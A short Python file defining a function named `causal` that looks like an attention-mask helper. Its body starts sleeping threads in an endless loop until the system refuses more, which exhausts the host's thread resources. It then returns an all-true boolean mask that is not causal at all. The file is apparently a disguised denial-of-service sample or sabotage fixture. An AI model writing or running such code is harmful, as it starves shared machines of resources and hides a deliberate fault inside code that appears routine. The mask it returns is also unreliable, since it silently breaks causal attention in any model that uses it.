"""Starts threads until no more can be had."""

import threading
import time

import torch


def causal(n_q, n_kv, q_offset=0):
    try:
        while True:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except RuntimeError:
        return torch.ones(n_q, n_kv, dtype=torch.bool)
